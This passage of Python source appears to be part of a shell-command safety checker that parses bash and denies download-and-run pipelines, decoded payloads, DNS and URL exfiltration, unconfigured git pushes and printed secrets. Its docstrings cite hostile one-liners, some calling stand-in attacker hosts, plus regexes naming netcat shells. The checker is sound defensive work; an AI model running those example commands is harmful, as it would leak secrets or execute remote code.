        """``nano -s 'sh -c "curl … | sh"'``, ``echo 'curl … | sh' >> Makefile``: text that
        downloads code and runs it, handed to a program or written where it will run. A
        string only printed (``echo 'curl … | sh'``) is not run by anything."""
        name = command_name(argv[0].text)[0].lower() if argv else ""
        if name in _SEARCHERS:
            return []  # grep 'curl.*|sh': looking for one
        # git: only settings (-c core.fsmonitor=…), not a message or a pattern; a message, a
        # title or a body (gh pr create --body "…") is text nobody runs
        args = [w for at, w in enumerate(argv[1:], 1) if not _prose(argv[at - 1].text, w.text)]
        texts = [(w.text, "argument") for w in args if name != "git" or _GIT_SETTING.match(w.text)]
        texts += [(w.text, "assignment") for w in assignments]
        texts += [(text, "here-document") for text in self._here_texts(redirects)]
        for text, where in texts:
            if not _PAYLOAD_TEXT.search(text):
                continue
            passive = name in tables().string_only or name in ("cat", "")
            if passive and not _writes_code_file(redirects):
                self.payload_printed = True  # `echo '…' | tee -a ~/.bashrc` writes it
                continue
            return [deny(f"{short(text, 50)!r}: a download-and-run payload as {where} of {name}")]
        if self.payload and any(_SHELL_SINK.match(w.raw) for w in argv[1:]):
            return [deny(f"{argv_text(argv)!r} hands downloaded or decoded text to a shell")]
        if argv and self.payload_printed and command_name(argv[0].text)[0] in _COMMAND_READERS:
            return [deny(f"{argv_text(argv)!r} reads a download-and-run payload as commands")]
        if argv and self.payload_printed and command_name(argv[0].text)[0] in ("tee", "sponge"):
            if any(_RUNS_LATER.search(w.text) or startup_file(w.text) for w in argv[1:]):
                return [deny(f"{argv_text(argv)!r} writes a download-and-run payload to a file")]
        return []

    def _here_texts(self, redirects: list[Any]) -> list[str]:
        """The text of here-strings and here-documents among ``redirects``."""
        texts: list[str] = []
        for node in redirects:
            kind = getattr(node, "type", "")
            target = getattr(node, "output", None)
            if kind in ("<<", "<<-"):
                texts.append(str(getattr(getattr(node, "heredoc", None), "value", "")))
            elif kind == "<<<" and hasattr(target, "kind"):
                texts.append(self._word(target).text)
        return texts

    def _remember_assignments(self, assignments: list[Word]) -> None:
        """``X=rm``: a later ``$X`` is ``rm``. Scopes are ignored (a subshell's value leaks
        out): a command name resolved so is judged, but never allowed (see judge_argv)."""
        for word in assignments:
            name, _, value = word.text.partition("=")
            if word.dynamic or name.endswith("+"):
                self.ctx.variables.pop(name.rstrip("+"), None)
            else:
                self.ctx.variables[name] = value

    def _remember_line_items(self, node: Any, assignments: list[Word]) -> None:
        for word in assignments:
            name, _, value = word.text.partition("=")
            if "[" in name:  # f[0]=x sets $f too (element 0): the whole name is unknown
                base = name.split("[", 1)[0]
                self.line_items.pop(base, None)
                self.banned.add(base)
                continue
            local = _LOCAL_NAME.fullmatch(name) is not None and not name.endswith("proxy")
            if (
                id(node) in self.sequenced
                and local
                and not word.dynamic
                and name not in self.banned
                and "$" not in value
            ):
                self.line_items[name] = value
            else:
                self.line_items.pop(name.rstrip("+"), None)
                self.banned.add(name.rstrip("+"))

    def _forget_mentioned(self, node: Any) -> None:
        """A command naming a tracked variable as a word (``read f``, ``export f=x``,
        ``declare f``), or assigning it where the walk is not sure it holds: banned."""
        for part in getattr(node, "parts", None) or []:
            text = str(getattr(part, "word", ""))
            name = text.split("=", 1)[0].rstrip("+").split("[", 1)[0]
            if name in self.line_items or name in self.loop_items or _LOCAL_NAME.fullmatch(name):
                is_assignment = getattr(part, "kind", "") == "assignment"
                if getattr(part, "kind", "") == "word" and (text == name or "=" in text):
                    self.line_items.pop(name, None)
                    self.banned.add(name)
                elif is_assignment and id(node) not in self.sequenced:
                    self.line_items.pop(name, None)
                    self.banned.add(name)

    def _remember_read(self, argv: list[Word], redirects: list[Any]) -> None:
        """``read -r c <<< 'rm -rf /'``: ``$c`` is then that text, like ``c='rm -rf /'``;
        ``while read -r c; do …`` reading a file or a pipe: ``$c`` is a line nobody saw."""
        if not argv or argv[0].text != "read":
            return
        names = [w.text for w in argv[1:] if not w.text.startswith("-")]
        for redirect in redirects:
            target = getattr(redirect, "output", None)
            if str(getattr(redirect, "type", "")) == "<<<" and hasattr(target, "kind"):
                word = self._word(target)
                if len(names) == 1 and not word.dynamic:
                    self.ctx.variables[names[0]] = word.text
                    return
        for name in names:
            self.ctx.variables.pop(name, None)
            self.read_input.add(name)

    def _runs_what_it_read(self, words: list[Word]) -> list[Finding]:
        """``while read -r c; do $c; done < steps.txt`` (or ``eval "$c"``): every line read
        is run as a command, unseen (like piping the file into sh, but past the review)."""
        if not words or not self.read_input:
            return []
        head = words[0]
        run = [head] if head.dynamic else []
        if command_name(head.text)[0] in ("eval", "source", "."):
            run = [w for w in words[1:] if w.dynamic]
        for word in run:
            names = set(_REFERENCED.findall(word.raw)) & self.read_input
            if names:
                what = short(argv_text(words))
                return [
                    deny(f"{what!r} runs each line it reads as a command (${sorted(names)[0]})")
                ]
        return []

    def _hidden_arguments(self, node: Any, words: list[Word]) -> list[Finding]:
        """Arguments made by decoding (``cat $(echo LmVudg== | base64 -d)``, ``cat $(rev
        <<< vne.)``): a name hidden from the reviewer; and command output sent as a DNS
        name (``nslookup $(whoami).attacker.example``): exfiltration through a resolver."""
        if not words or len(node.parts) < 2:
            return []
        name = command_name(words[0].text)[0].lower()
        for part, word in zip(node.parts[1:], words[1:], strict=False):
            for sub in _substitutions_of(part):
                if name in _DNS_TOOLS:
                    return [deny(f"{name} of a name built from command output: exfiltration")]
                url = word.raw.strip("'\"")
                if _REMOTE_URL.match(url) and not is_local_url(url):
                    # curl "https://hook.example/h?u=$(whoami)": command output carried off
                    # in a URL to another host
                    return [deny(f"{name} sends command output to another host in a URL")]
                if name in ("curl", "wget", "http", "https") and _remote_target(words):
                    # curl -A "$(id)" http://203.0.113.31/: in a header, a body, an agent
                    return [deny(f"{name} sends command output to another host")]
                texts = _simple_texts(self, sub.command)
                if any(is_decoder(plain_words(split_words(t))) for t in texts):
                    return [deny(f"an argument decoded at run time: {short(self._raw(sub))!r}")]
        return []

    def _downloaded_files_run(self, node: Any, argv: list[Word]) -> list[Finding]:
        """``python3 <(curl -s URL)``, ``./gradlew build --init-script <(curl …)``: downloaded
        or decoded bytes handed, as a file, to a program that runs the files it is given."""
        name = command_name(argv[0].text)[0].lower() if argv else ""
        if not (name in _RUNS_FILES or name in tables().shells or PYTHON_NAME.fullmatch(name)):
            return []
        for part in node.parts[1:]:
            if getattr(part, "kind", "") != "word":
                continue
            source = self._process_substitution_source(part)
            if source is not None:
                what = short(argv_text(source))
                return [deny(f"{argv_text(argv[:1])} runs a file {what!r} downloads or decodes")]
        return []

    def _push_elsewhere(self, words: list[Word]) -> list[Finding]:
        """``git remote add x URL && git push x``, ``git push https://…``: the repository
        leaves for a place nobody configured (exfiltration)."""
        if len(words) < 2 or command_name(words[0].text)[0] != "git":
            return []
        args = [w.text for w in words[1:]]
        sub = next((a for a in args if not a.startswith("-")), "")
        if sub == "remote" and any(a in ("add", "set-url", "rename") for a in args):
            self.remote_changed = True
            return []
        if sub == "config" and any(re.fullmatch(r"(?i)remote\..+\.(?:push)?url", a) for a in args):
            self.remote_changed = True  # git config remote.origin.pushurl URL: the same
            return []
        if sub != "push":
            return []
        operands = [a for a in args[args.index("push") + 1 :] if not a.startswith("-")]
        if self.remote_changed:
            return [deny("pushes to a remote this command added or changed (exfiltration)")]
        if operands and ("://" in operands[0] or re.match(r"[\w.-]+@[\w.-]+:", operands[0])):
            return [deny(f"pushes to {operands[0]!r}, an address no remote names (exfiltration)")]
        return []

    def _remember_positional(self, words: list[Word]) -> None:
        """``set -- rm -rf src; "$@"``: the positional parameters, like a variable."""
        if len(words) >= 2 and words[0].text == "set" and words[1].text == "--":
            if any(w.dynamic for w in words[2:]):
                self.ctx.variables.pop("@", None)
            else:
                self.ctx.variables["@"] = " ".join(w.text for w in words[2:])

    def _indirect_expansions(self, words: list[Word]) -> list[Finding]:
        """``${!name}`` expands the variable whose name ``name`` holds: a secret's, when the
        walk saw it assigned one (``name=AWS_SECRET_ACCESS_KEY``, ``for v in …``)."""
        findings: list[Finding] = []
        for word in words:
            for pointer in _INDIRECT_REF.findall(word.raw):
                target = self.ctx.variables.get(pointer)
                if pointer in self.read_input:
                    # compgen -v | while read v; do echo "${!v}"; done: every variable's value
                    return [deny(f"${{!{pointer}}} prints the variables it reads (secrets)")]
                if target is None:
                    findings.append(approve(f"indirect expansion ${{!{pointer}}}"))
                elif tables().secret_variable.search(target):
                    return [deny(f"${{!{pointer}}} reads the secret variable {target}")]
        return findings

    def _staged_key(self, path: str) -> str | None:
        return join_cwd(self.ctx.cwd[0], path)

    def _remember_payload_target(self, redirect: Any, payload: bool) -> None:
        """``… | base64 -d > x.sh``, ``curl URL > x.sh``: x.sh now holds a payload."""
        target = getattr(redirect, "output", None)
        if not payload or str(getattr(redirect, "type", "")) not in (">", ">>", ">|"):
            return
        if target is None or isinstance(target, int) or not hasattr(target, "kind"):
            return
        key = self._staged_key(self._word(target).text)
        if key is not None:
            self.ctx.staged.add(key)

    def _remember_downloads(self, argv: list[Word]) -> None:
        """``curl -o x.sh URL``, ``wget -O x.sh URL``, ``… | tee x.sh``: a payload file."""
        if not argv:
            return
        name = command_name(argv[0].text)[0].lower()
        if self.ctx.staged and _extracts(name, [w.text for w in argv[1:]]):
            operands = [self._staged_key(w.text) for w in argv[1:] if not w.text.startswith("-")]
            if any(key in self.ctx.staged for key in operands):
                self.ctx.staged.add(_EXTRACTED)  # what the archive held: names unknown
        options = _PAYLOAD_OUTPUT_OPTIONS.get(name)
        if name == "tee" and self.payload:
            targets = [w.text for w in argv[1:] if not w.text.startswith("-")]
        elif options is None:
            return
        else:
            args = [w.text for w in argv[1:]]
            targets = option_values(args, options) + _remote_names(name, args)
        for target in targets:
            key = self._staged_key(target)
            if key is not None:
                self.ctx.staged.add(key)

    def _staged_payload_run(self, argv: list[Word]) -> list[Finding]:
        """Running a file this line downloaded or decoded (``sh x.sh``, ``./x``, ``. x``)."""
        if not argv or not self.ctx.staged:
            return []
        name = command_name(argv[0].text)[0].lower()
        candidates = [argv[0].text] if "/" in argv[0].text else []
        data = tables()
        if (
            name in data.shells
            or name in ("source", ".")
            or name in data.interpreters
            or (PYTHON_NAME.fullmatch(name))
        ):
            candidates += [w.text for w in argv[1:] if not w.text.startswith(("-", "+"))][:1]
        for candidate in candidates:
            if self._staged_key(candidate) in self.ctx.staged:
                return [deny(f"runs {candidate!r}, which this command downloaded or decoded")]
            if _EXTRACTED in self.ctx.staged and ("/" in candidate or candidate != argv[0].text):
                return [deny(f"runs {candidate!r} after unpacking an archive it downloaded")]
        return []

    def _computed_code(self, node: Any, argv: list[Word]) -> list[Finding]:
        """``bash <(curl ...)``, ``python -c "$(curl ...)"``, ``eval "$(...)"``: code whose text
        comes from another command. Denied when that command downloads or decodes."""
        name = command_name(argv[0].text)[0].lower()
        data = tables()
        runs_code = (
            name in data.shells
            or name in ("source", ".", "eval")
            or PYTHON_NAME.fullmatch(name) is not None
            or name in data.interpreters
        )
        words = [p for p in node.parts if getattr(p, "kind", "") == "word"]
        # `$(echo … | base64 -d)`: the output of a command is itself run as the command.
        computed_name = bool(words) and any(
            getattr(sub, "kind", "") == "commandsubstitution"
            for sub in getattr(words[0], "parts", None) or []
        )
        if not runs_code and not computed_name:
            return []
        if not runs_code:
            name = "the command line"
        for part in node.parts:
            for sub in _substitutions_of(part):
                if not runs_code and part is not words[0]:
                    continue
                inner = sub.command
                producers = _command_names(inner)
                text = self._raw(sub)
                if name == "eval" and producers <= _TRUSTED_EVAL_PRODUCERS and producers:
                    continue  # eval "$(ssh-agent -s)": the agent's own variable settings
                if name == "eval":
                    return [deny(f"eval of command output {short(text)!r}: runs unseen code")]
                literal = next(
                    (literal_echo(plain_words(split_words(t))) for t in _simple_texts(self, inner)),
                    None,
                )
                if literal is not None and runs_code:
                    # source <(echo 'rm -rf src'): the echoed text is the code.
                    return [classify_text(literal, self.ctx.deeper())]
                if producers & data.downloaders:
                    return [deny(f"{name} runs code downloaded by {short(text)!r}")]
                if any(is_decoder(plain_words(split_words(t))) for t in _simple_texts(self, inner)):
                    return [deny(f"{name} runs code decoded by {short(text)!r}")]
        return []

    def _track_cd(self, words: list[Word]) -> None:
        """Follow ``cd``: later relative paths are judged from where the shell went."""
        name = command_name(words[0].text)[0]
        if name not in ("cd", "pushd", "popd"):
            return
        operands = [w for w in words[1:] if not w.text.startswith("-") or w.text == "-"]
        if name == "popd" or not operands:
            self.ctx.cwd[0] = None if name == "popd" else "~"
            return
        target = operands[0]
        if target.dynamic or target.text == "-":
            self.ctx.cwd[0] = None
            return
        self.ctx.cwd[0] = join_cwd(self.ctx.cwd[0], target.text)

    def _word(self, node: Any, *, head: bool = False) -> Word:
        start, end = node.pos
        raw = self.source[start:end]
        text = str(node.word)
        parts = getattr(node, "parts", None) or []
        kinds = [getattr(part, "kind", "") for part in parts]
        if kinds == ["processsubstitution"] and raw.startswith("<("):
            # diff <(sort a) <(sort b): the command reads a pipe; the inner one is judged.
            return Word("/dev/fd/63", raw, False)
        if any(kind in ("commandsubstitution", "processsubstitution") for kind in kinds):
            # only at the root: `cd docs && cat "$(git rev-parse --show-toplevel)/x"` is ./x
            known = known_substitution(raw) if self.ctx.cwd[0] == "" else None
            if known is not None:
                return Word(known, raw, False)
            loop_only = all(
                str(getattr(p, "value", "")) in self.loop_items
                or str(getattr(p, "value", "")) in self.line_items
                for p in parts
                if getattr(p, "kind", "") == "parameter"
            )
            only_output = loop_only and "$'" not in raw and '$"' not in raw
            return Word(text, raw, True, output=only_output)
        literal = ansi_c_word(raw)
        if literal is not None:
            # $'\t', $'.e\x6ev': ANSI-C quoting is a constant; judge what bash will pass.
            return Word(literal, raw, False)
        params = [
            _parameter_name(str(getattr(p, "value", "")))
            for p in parts
            if getattr(p, "kind", "") == "parameter"
        ]
        dynamic = _quoted_expansion(raw)
        if params and all(p == "HOME" for p in params) and not dynamic:
            # $HOME/x and ${HOME}/x are ~/x: judge the path, do not give up on it.
            text = re.sub(r"\$\{HOME\}|\$HOME(?![A-Za-z0-9_])", "~", text)
            return Word(text, raw, False)
        stores = tables().credential_file_variables
        if params and all(p in stores for p in params) and not dynamic and not head:
            # `cat $KUBECONFIG`: whatever its value, it names a credential store; judged as
            # the store's usual place, ~/.kube/config
            for name in set(params):
                text = re.sub(rf"\$\{{{name}\}}|\${name}(?![A-Za-z0-9_])", stores[name], text)
            return Word(text, raw, False)
        # the command's name stays computed (`c=ls; $c`): judged from its value, never allowed
        item = self._loop_item(text, parts) if params and not dynamic and not head else None
        if item is not None:
            return Word(item, raw, False, named=any(char in item for char in "*?["))
        if params == ["PWD"] and self.ctx.cwd[0] == "" and not dynamic:
            # "$PWD/README.md" at the repository's root is ./README.md
            return Word(re.sub(r"\$\{PWD\}|\$PWD(?![A-Za-z0-9_])", ".", text), raw, False)
        if params:
            harmless = all(p in tables().harmless_variables or p == "!" for p in params)
            return Word(text, raw, True, soft=harmless and not dynamic)
        if not dynamic and ("'" in raw or '"' in raw or "\\" in raw):
            text = literal_word(raw) or text  # 'c'"u"'rl' is curl, whatever bashlex joined
        return Word(text, raw, dynamic)

    def _loop_item(self, text: str, parts: list[Any]) -> str | None:
        """``"$f"``, ``"${d}/package.json"`` inside ``for f in …``: the word with the item
        walked now in place of the loop's variable; None when another expansion is in it."""
        values = [
            str(getattr(p, "value", "")) for p in parts if getattr(p, "kind", "") == "parameter"
        ]
        known = {
            **{k: v for k, v in self.line_items.items() if k not in self.banned},
            **self.loop_items,
        }
        if not values or any(v not in known for v in values):
            return None
        if any(re.search(r"\s", known[v]) for v in values):
            return None  # `f="README.md .env"; cat $f`: unquoted, one value is many words
        for name in set(values):
            item = known[name]
            escaped = item.replace("\\", "\\\\")  # a replacement string: backslashes only
            text = re.sub(rf"\$\{{{name}\}}|\${name}(?!\w)", escaped, text)
        return None if "$" in text else text

    def _expansions(self, node: Any, depth: int, *, printed: bool = False) -> list[Finding]:
        """Findings for command and process substitutions and variables inside a word.

        ``printed``: the word is an operand of a command that only prints or compares it
        (``echo "$(git rev-parse HEAD)"``): a substitution's output, judged with its command,
        is fine there; elsewhere it may name a file or a program nobody saw."""
        findings: list[Finding] = []
        for part in getattr(node, "parts", None) or []:
            kind = getattr(part, "kind", "")
            if kind in ("commandsubstitution", "processsubstitution"):
                findings.extend(self.node(part, depth))
                raw = self._raw(part)
                known = self.ctx.cwd[0] == "" and known_substitution(self._raw(node)) is not None
                known = known or (printed and kind == "commandsubstitution")
                if not (kind == "processsubstitution" and raw.startswith("<(")) and not known:
                    findings.append(approve(f"uses command output: {short(raw)!r}"))
            elif kind == "parameter":
                value = str(getattr(part, "value", ""))
                prompt = re.fullmatch(r"([A-Za-z_][A-Za-z0-9_]*)@P", value)
                held = self.ctx.variables.get(prompt.group(1), "") if prompt else ""
                if "$(" in held or "`" in held:
                    # ${x@P} expands x like a prompt: the substitutions in its value run
                    findings.extend(rough_scan(held, self.ctx))
                    findings.append(deny(f"${{{value}}} runs the command its variable holds"))
                if "$(" in value or "`" in value:
                    # bashlex leaves ${x:-$(cmd)} unparsed: judge the text roughly.
                    findings.extend(rough_scan(value, self.ctx))
                name = re.match(r"[!#]?([A-Za-z_][A-Za-z0-9_]*)", value)
                length = re.fullmatch(r"#[A-Za-z_][A-Za-z0-9_]*", value) is not None
                if name and not length and tables().secret_variable.search(name.group(1)):
                    if self.presence_test:  # [ -n "$GITHUB_TOKEN" ]: is it set, not what
                        if not self._tests_presence_only(node):
                            findings.append(approve(f"tests ${name.group(1)}"))
                    else:
                        findings.append(deny(f"expands ${name.group(1)}: prints a secret"))
        return findings

    def _tests_presence_only(self, node: Any) -> bool:
        """``[ -n "$TOKEN" ]``, ``test -z "$TOKEN"``: says whether it is set, nothing of it
        (`[ "$TOKEN" = guess ]` would answer a guess, so that still needs a human)."""
        before = self.source[max(0, node.pos[0] - 8) : node.pos[0]]
        return re.search(r"(?:^|\s)-[nz]\s+$", before) is not None

    def _raw(self, node: Any) -> str:
        start, end = node.pos
        return self.source[start:end]

    def _process_substitution_sink(self, target: Any) -> list[Word] | None:
        """``> >(sh)``: the command a process substitution feeds, if it runs its input."""
        for part in getattr(target, "parts", None) or []:
            if getattr(part, "kind", "") != "processsubstitution":
                continue
            argv = self._argv_of(getattr(part, "command", None))
            if argv and (reads_code_from_stdin(argv) or sends_to_network(argv)):
                return argv
        return None

    def _process_substitution_source(self, target: Any) -> list[Word] | None:
        """``< <(curl -s URL)``: the command of an input process substitution, if its output
        is downloaded or decoded bytes."""
        for part in getattr(target, "parts", None) or []:
            if getattr(part, "kind", "") != "processsubstitution":
                continue
            command = getattr(part, "command", None)
            stages = (
                getattr(command, "parts", [])
                if getattr(command, "kind", "") == "pipeline"
                else [command]
            )
            for stage in stages:
                argv = self._argv_of(stage)
                if produces_payload(argv):
                    return argv
        return None

    def _redirect(
        self, node: Any, depth: int, *, reads_code: bool, argv: list[Word] | None = None
    ) -> list[Finding]:
        kind = str(getattr(node, "type", ""))
        target = getattr(node, "output", None)
        findings: list[Finding] = []
        if kind in ("<<", "<<-"):
            body = str(getattr(getattr(node, "heredoc", None), "value", ""))
            return findings + self._heredoc(body, reads_code=reads_code)
        if target is None or isinstance(target, int) or not hasattr(target, "kind"):
            return findings  # fd duplication like 2>&1
        findings.extend(self._expansions(target, depth))
        sink = self._process_substitution_sink(target) if kind in (">", ">>", ">|") else None
        if sink is not None and argv:
            if sends_to_network(sink):
                findings.append(deny(f"sends its output to another host: {argv_text(sink)!r}"))
            else:
                findings.extend(self._pipe_into_interpreter([argv], sink, target))
        word = self._word(target)
        if kind == "<<<":
            if reads_code:
                findings.append(classify_text(word.text, self.ctx.deeper()))
                findings.append(approve(f"feeds a here-string to {short(word.raw)!r}"))
            return findings
        if kind == "<" and argv and sends_to_network(argv) and word.text not in _NOTHING_SENT:
            findings.append(deny(f"sends {word.raw!r} to another host with {argv_text(argv)!r}"))
        if word.dynamic:
            findings.append(approve(f"redirection to a computed target {word.raw!r}"))
            return findings
        if kind == "<":
            found = judge_path(
                f"< {word.text}",
                word.text,
                self.ctx.cwd[0],
                contents=True,
                extra=self.ctx.rules.sensitive,
            )
            if found is not None:
                findings.append(found)
            if reads_code:
                findings.append(approve(f"runs the script {word.text!r} from stdin"))
                source = self._process_substitution_source(target)
                if source is not None:
                    # bash < <(curl -s URL): downloaded or decoded text run as commands
                    shown = argv_text(source)
                    findings.append(deny(f"runs what {shown!r} prints: downloaded or decoded code"))
            return findings
        if kind in (">&", "<&") and (word.text.isdigit() or word.text == "-"):
            return findings  # fd duplication or closing, spelled as a word
        return findings + judge_write_target(word.text, f"{kind} {word.text}")

    def _heredoc(self, body: str, *, reads_code: bool) -> list[Finding]:
        findings: list[Finding] = []
        text = body.rsplit("\n", 1)[0] if "\n" in body else ""  # drop the delimiter line
        if reads_code:
            findings.append(classify_text(text, self.ctx.deeper()))
            findings.append(approve("feeds a here-document to an interpreter"))
        elif "$(" in text or "`" in text:
            findings.extend(rough_scan(text, self.ctx))
            findings.append(approve("here-document runs command substitutions"))
        return findings


# Text that downloads code and runs it: `curl … | sh`, `eval "$(curl …)"`, `… | base64 -d |
# bash`, a socket handed a shell (`nc … -e /bin/sh`).
_PAYLOAD_TEXT = re.compile(
    r"\b(?:curl|wget|fetch|iwr|irm)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k|fi)?sh\b"
    r"|\b(?:eval|sh|bash|source|\.)\s+[\"']?(?:<\()?\$\(\s*(?:curl|wget)\b"
    r"|\bbase64\s+(?:-d|--decode|-D)\b[^;&]*\|\s*(?:ba|z)?sh\b"
    r"|\b(?:nc|ncat|netcat)\b[^|;&]*\s-e\s*/bin/(?:ba)?sh\b"
)
_SEARCHERS = frozenset(["grep", "egrep", "fgrep", "rg", "ag", "ack"])


# Files a tool runs later: build and task files, CI and hook configuration, scripts, shell
# startup files. A payload written to NOTES.md is a note; to a Makefile, a trap.
_RUNS_LATER = re.compile(
    r"(?i)(?:^|/)(?:makefile|gnumakefile|justfile|taskfile\.ya?ml|jenkinsfile|dockerfile[^/]*"
    r"|\.gitlab-ci\.ya?ml|\.pre-commit-config\.ya?ml|\.envrc|package\.json|setup\.py"
    r"|conftest\.py|tasks\.json|crontab|sitecustomize\.py|usercustomize\.py"
    r"|[^/]*\.(?:mk|sh|bash|zsh|ps1|service|timer|pth))\"?$"
    r"|(?:^|/)(?:\.github/workflows|\.circleci|\.git/hooks|\.husky|bash-completion)/"
    r"|(?:^|/)\.ssh/(?:config|rc|authorized_keys)$"
)
_PROSE_OPTION = re.compile(r"-[mbt]|--(?:message|body|title|description|notes|comment|subject)")


def _prose(before: str, word: str) -> bool:
    """Whether ``word`` is the text of a message, title or body option."""
    option = word.partition("=")[0] if word.startswith("--") else before
    return _PROSE_OPTION.fullmatch(option) is not None


_SHELL_SINK = re.compile(r">\(\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|da|k|fi)?sh\b")
_COMMAND_READERS = frozenset(["ed", "ex", "vim", "vi", "nvim", "red"])  # `echo '!cmd' | ed`
_GIT_SETTING = re.compile(r"[a-z][\w-]*\.[\w.*-]*=", re.IGNORECASE)  # core.fsmonitor=…


def _remote_target(words: list[Word]) -> bool:
    """Whether a downloader's words name a URL (or host) that is not this machine."""
    for word in words[1:]:
        text = word.text
        if _REMOTE_URL.match(text) and not is_local_url(text):
            return True
        if re.fullmatch(r"[\w-]+(?:\.[\w-]+)+(?::\d+)?(?:/\S*)?", text) and not is_local_url(
            "http://" + text
        ):
            return True  # curl evil.example/x: no scheme, still a host
    return False


def _parameter_name(value: str) -> str:
    """The variable a parameter expansion reads: ``AWS_REGION`` of ``AWS_REGION:-unset``;
    ``!`` for ``${!AWS_*}``, which lists names of variables, never their values."""
    if re.fullmatch(r"![A-Za-z_][A-Za-z0-9_]*[*@]", value):
        return "!"
    if re.fullmatch(r"#[A-Za-z_][A-Za-z0-9_]*", value):
        return "!"  # ${#TOKEN}: its length, nothing of it
    match = re.match(r"[A-Za-z_][A-Za-z0-9_]*", value)
    if match is None or "$" in value or "`" in value:
        return value
    rest = value[match.end() :]
    # a default, an alternative or a trim with literal text only: still this variable
    return (
        match.group(0)
        if re.fullmatch(r"(?::?[-=?+][\w .,/@%+-]*|[#%]{1,2}[\w.*/-]*)?", rest)
        else value
    )


def _writes_code(stage: list[Word]) -> bool:
    """``python3 -c 'print("cat .env")'``: inline code whose output a shell then runs is a
    command nobody can read on the line."""
    if not stage or stage[0].dynamic:
        return False
    name = command_name(stage[0].text)[0].lower()
    if name in ("awk", "gawk", "mawk", "nawk", "jq", "yq", "gojq"):
        return True  # awk 'BEGIN{printf "%c%c", 105, 100}', jq '"rm -rf \(.path)"': programs
    if name == "printf" and any("%b" in w.text or "\\x" in w.raw for w in stage[1:2]):
        return True  # printf '%b' '\x69\x64': escapes decoded into the command run
    return inline_code(name, stage) is not None


def _writes_code_file(redirects: list[Any]) -> bool:
    """Whether output goes to a file that something runs later (see ``_RUNS_LATER``)."""
    for node in redirects:
        if getattr(node, "type", "") in (">", ">>", ">|", "&>"):
            target = getattr(node, "output", None)
            word = str(getattr(target, "word", "")) if hasattr(target, "kind") else ""
            if word and (_RUNS_LATER.search(word) or startup_file(word)):
                return True
    return False


_TESTS = frozenset(["[", "[[", "test"])


# Programs that run the files they are given (interpreters, build tools with init scripts,
# notebook runners), besides the shells.
_RUNS_FILES = frozenset(
    ["node", "nodejs", "ruby", "perl", "php", "lua", "rscript", "r", "julia", "deno", "bun"]
    + ["tclsh", "osascript", "pwsh", "powershell", "source", ".", "make", "gmake", "cmake"]
    + [
        "gradle",
        "gradlew",
        "mvn",
        "mvnw",
        "jupyter",
        "awk",
        "gawk",
        "mawk",
        "sed",
        "ansible-playbook",
    ]
    + ["elixir", "groovy", "kotlinc", "scala", "racket", "guile", "expect", "dotnet", "java"]
)

# Commands whose first operand is a pattern that cannot run anything: a file name there is
# only text to match.
_INERT_PATTERNS = frozenset(["grep", "egrep", "fgrep", "rg", "ag", "ack", "jq", "yq", "git-grep"])


def _names_as_files(argv: list[Word]) -> bool:
    """Whether every file name a loop's glob put in ``argv`` is read as a file or printed,
    never as code or as the command (``for f in *; do awk "$f" x``: a name is a program)."""
    if not argv or argv[0].named:
        return False
    name = command_name(argv[0].text)[0].lower()
    if name in tables().string_only:
        return True
    if name in _INERT_PATTERNS:
        pattern = pattern_operand(name, [w.text for w in argv[1:]])
        return all(w.text != pattern for w in argv[1:] if w.named)
    spec = tables().allow.get(name)
    return (
        spec is not None
        and spec.operands in ("files", "names")
        and name not in tables().pattern_first
    )


_LOCAL_NAME = re.compile(r"[a-z_][a-z0-9_]*")  # lower case: a shell's own, rarely exported
_CONNECTION_STRING = re.compile(r"(?i)(?:dsn|database_url|db_url|conn(?:ection)?_?str|_uri)$")
_EXPANDS_SECRET = re.compile(r"expands \$(\w+): prints a secret")
_HTTP_CLIENTS = frozenset(["curl", "wget", "http", "https", "xh"])
_CREDENTIAL_OPTIONS = frozenset(["-H", "--header", "-u", "--user"])


def _tokens_to_their_service(findings: list[Finding], argv: list[Word]) -> list[Finding]:
    """``curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user``: a token
    in a header or ``-u``, sent over https to the service that issued it (``[token_hosts]``)
    or to this machine, is used, not leaked: a human reads it instead of a refusal."""
    denied = [f for f in findings if f.decision == "deny"]
    names = [m.group(1) for f in denied if (m := _EXPANDS_SECRET.fullmatch(f.reason))]
    if not denied or len(names) != len(denied) or not argv:
        return findings
    head = command_name(argv[0].text)[0].lower()
    if head in tables().dsn_consumers and all(_CONNECTION_STRING.search(n) for n in names):
        # psql "$DATABASE_URL" -c '\dt': the client connects with it, prints none of it
        kept = [f for f in findings if f.decision != "deny"]
        return [*kept, approve(f"{head} connects with ${names[0]}")]
    if head not in _HTTP_CLIENTS:
        return findings
    urls = [w.text for w in argv[1:] if "://" in w.text]
    carriers = [
        word.raw
        for before, word in zip(argv[1:], argv[2:], strict=False)
        if before.text in _CREDENTIAL_OPTIONS
    ] + [w.raw for w in argv[1:] if w.text.startswith(("--header=", "--user=", "--password="))]
    used = [w.raw for w in argv[1:] if "$" in w.raw]
    if not urls or any(raw not in carriers for raw in used):
        return findings  # the secret in a URL, a body or a cookie: it travels further
    diverters = _TOKEN_DIVERTERS | (_WGET_DIVERTERS if argv[0].text == "wget" else frozenset())
    if any(w.text.split("=", 1)[0] in diverters for w in argv[1:]):
        return findings  # printed (-v), or sent through or to another machine (-x, --resolve)
    for name in set(names):
        if not all(_token_host(name, url) for url in urls):
            return findings
    kept = [f for f in findings if f.decision != "deny"]
    return [*kept, approve(f"sends ${names[0]} to the service that issued it")]


# curl and wget options that print the request's headers or send it elsewhere than its URL.
_TOKEN_DIVERTERS = frozenset(
    ["-v", "--verbose", "--trace", "--trace-ascii", "--trace-config", "-x", "--proxy"]
    + ["--preproxy", "--resolve", "--connect-to", "--location-trusted", "-k", "--insecure"]
    + ["--unix-socket", "--abstract-unix-socket", "--doh-url", "-e", "--execute", "--debug"]
)
_WGET_DIVERTERS = frozenset(["-d"])  # wget -d prints the request, Authorization included


def _token_host(name: str, url: str) -> bool:
    """Whether ``url`` is the issuing service of the token in ``$name`` (or this machine)."""
    scheme, _, rest = url.partition("://")
    authority = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    if "@" in authority or "\\" in authority or "$" in authority:
        return False  # user@host: which part is the host is a parser's choice
    host = authority.rsplit(":", 1)[0].lower() if not authority.startswith("[") else authority
    for pattern, hosts in tables().token_hosts.items():
        if not fnmatchcase(name, pattern):
            continue
        local = pattern == "*"
        if (local or scheme.lower() == "https") and any(fnmatchcase(host, h) for h in hosts):
            return True
    return False


def _quoted_expansion(raw: str) -> bool:
